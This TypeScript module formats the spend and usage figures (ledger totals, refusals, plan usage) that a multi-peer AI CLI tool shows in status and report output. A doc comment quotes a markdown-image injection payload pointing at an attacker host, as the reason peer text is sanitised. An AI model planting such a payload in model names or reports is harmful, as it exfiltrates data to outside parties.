/**
 * The bill as `peers status` and `peers report` show it: the usage ledger's figures (live, also in
 * the middle of a turn), the price table's date, what the CLIs themselves reported where that
 * differs, replies cut short (partly estimated) and priced by fallback, budget refusals, and the
 * plan-usage signals the vendors sent (how close a subscription came to its limits). Pure: the
 * caller reads the files.
 */
import { PRICE_TABLE_DATE } from '../../auth-proxy/usage/price-table.ts';
import type { LoopState } from '../state/state-schema.ts';
import type { TickLine } from '../state/run-log.ts';
import type { BudgetPolicy } from './budget-policy-file.ts';
import type { LedgerSpend } from './ledger-spend.ts';

export type SpendInput = {
  state: LoopState;
  ticks: TickLine[];
  ledger: LedgerSpend | null;
  ledgerError?: string;
  policy?: BudgetPolicy;
  running: boolean;
};

const num = (v: unknown) => (typeof v === 'number' && Number.isFinite(v) ? v : 0);
const r6 = (x: number) => Math.round(x * 1e6) / 1e6;

export function spendView(i: SpendInput) {
  const s = i.state;
  const l = i.ledger;
  const metered = i.ticks.filter((t) => t.metered_by === 'ledger');
  const cli = metered.length ? { tokens: metered.reduce((n, t) => n + num(t.cli_tokens), 0), usd: r6(metered.reduce((n, t) => n + num(t.cli_usd), 0)) } : null;
  const perPeer: Record<string, { tokens: number; usd: number; cli_tokens?: number; cli_usd?: number }> = {};
  for (const p of s.peer_order) {
    const h = s.peers[p];
    const mine = metered.filter((t) => t.peer === p);
    perPeer[p] = { tokens: h?.tokens ?? 0, usd: h?.usd ?? 0, ...(mine.length ? { cli_tokens: mine.reduce((n, t) => n + num(t.cli_tokens), 0), cli_usd: r6(mine.reduce((n, t) => n + num(t.cli_usd), 0)) } : {}) };
  }
  // state.json holds the ledger's totals as of the last finished tick: the rest is the turn under way.
  const thisTurn = l && i.running ? { tokens: Math.max(0, l.tokens - s.budget.spent_tokens), usd: r6(Math.max(0, l.usd - s.budget.spent_usd)) } : null;
  return {
    source: l ? ('ledger' as const) : ('cli' as const),
    tokens: l ? l.tokens : s.budget.spent_tokens,
    usd: l ? r6(l.usd) : s.budget.spent_usd,
    price_table: i.policy?.price_table ?? PRICE_TABLE_DATE,
    this_turn: thisTurn,
    cli_reported: cli,
    per_peer: perPeer,
    replies: l?.replies ?? null,
    in_flight: l?.inFlight ?? null,
    cut_short: l?.cutShort ?? 0,
    fallback: l?.fallback ?? [],
    refusals: l?.refusals ?? {},
    plan_usage: l?.planUsage ?? [],
    peak_utilization: l?.peakUtilization ?? [],
    ledger_error: i.ledgerError ?? null,
    policy: i.policy ? { max_usd: i.policy.max_usd, max_tokens: i.policy.max_tokens, mode: i.policy.max_usd_mode, reason: i.policy.reason, credentials: i.policy.credentials, resolved_at: i.policy.resolved_at } : null,
  };
}
export type SpendView = ReturnType<typeof spendView>;

const usd = (x: number) => `$${x.toFixed(4)}`;

/** What a rehearsal's USD figure is: the scripted model server billed nothing (README, "Rehearse offline"). */
export const REHEARSAL_SPEND_NOTE = 'a rehearsal: the scripted model server answered, nothing was billed; the USD figure is what the same tokens would cost on the API';

/** A run's USD figure in one phrase (ls, archives, `peers up`): a rehearsal's is marked as never billed. */
export const runUsdWords = (x: number, rehearsal: boolean, digits = 2): string => `$${x.toFixed(digits)}${rehearsal ? ' (rehearsal, not billed)' : ''}`;

/**
 * Plain lines (status prints them indented, the report as a list). A model name is the peer's to
 * choose (the sidecar records the request's when a reply names none), so it, a price note and a
 * ledger error pass through `quote`, the sink's rule for a peer's words: REPORT.md's mdText (a
 * model named `![x](https://attacker.example/?d=…)` was an image in the report); the HTML and the
 * terminal make the whole line safe themselves. SECURITY.md, "Peer text outside the sandbox is inert".
 */
export function spendLines(v: SpendView, quote: (peerText: string) => string = (t) => t): string[] {
  const out: string[] = [];
  if (v.ledger_error) out.push(`the usage ledger cannot be read (the run is held): ${quote(v.ledger_error)}`);
  out.push(`${usd(v.usd)}, ${v.tokens} tokens — ${v.source === 'ledger' ? `auth sidecar's usage ledger${v.replies !== null ? `, ${v.replies} replies` : ''}` : "the CLIs' own figures (no sidecar ledger)"}; USD at list prices of ${v.price_table}`);
  if (v.in_flight?.requests) out.push(`at the vendor now: ${v.in_flight.requests} request${v.in_flight.requests === 1 ? '' : 's'}, reserved at up to ${usd(v.in_flight.usd)}, ${v.in_flight.tokens} tokens (spent when their replies end)`);
  if (v.this_turn && (v.this_turn.tokens || v.this_turn.usd)) out.push(`of which the turn under way: ${usd(v.this_turn.usd)}, ${v.this_turn.tokens} tokens`);
  if (v.cli_reported && (v.cli_reported.tokens !== v.tokens || Math.abs(v.cli_reported.usd - v.usd) >= 0.00005)) {
    out.push(`the CLIs themselves reported ${usd(v.cli_reported.usd)}, ${v.cli_reported.tokens} tokens (kept for comparison; the ledger is what counts)`);
  }
  if (v.policy?.credentials === 'model-server') out.push(REHEARSAL_SPEND_NOTE);
  if (v.policy?.mode === 'warn') out.push(`max_usd is not enforced (${v.policy.reason}): the USD figure is what the same tokens cost on the API`);
  if (v.cut_short) out.push(`${v.cut_short} repl${v.cut_short === 1 ? 'y was' : 'ies were'} cut short (client abort, upstream error or stall): the missing part is estimated`);
  for (const f of v.fallback) out.push(`priced conservatively: ${f.model ? quote(f.model) : '(no model)'} — ${f.replies} repl${f.replies === 1 ? 'y' : 'ies'}, ${usd(f.usd)} (${quote(f.note)})`);
  for (const r of Object.values(v.refusals)) {
    if (!r) continue;
    const unit = r.cap === 'max_usd' ? usd : (x: number) => `${Math.ceil(x)} tokens`;
    const what = (r.requests ?? 1) > 1 ? `${r.requests} requests were refused, the last at` : 'a request was refused at';
    out.push(`${what} ${r.ts} (${r.cap} ${r.cap === 'max_usd' ? `$${r.limit}` : r.limit}): ${unit(r.spent)} spent, ${unit(r.in_flight)} in flight, it could have used ${unit(r.needed)}`);
  }
  for (const p of v.plan_usage) {
    const peaks = v.peak_utilization.filter((x) => x.upstream === p.upstream).map((x) => `${x.signal} peak ${x.percent}%`);
    const last = Object.entries(p.signals).map(([k, val]) => `${k}=${val}`).join(', ');
    out.push(`plan usage (${p.upstream}): ${peaks.length ? `${peaks.join(', ')}; ` : ''}last reported at ${p.ts}: ${last}`);
  }
  return out;
}
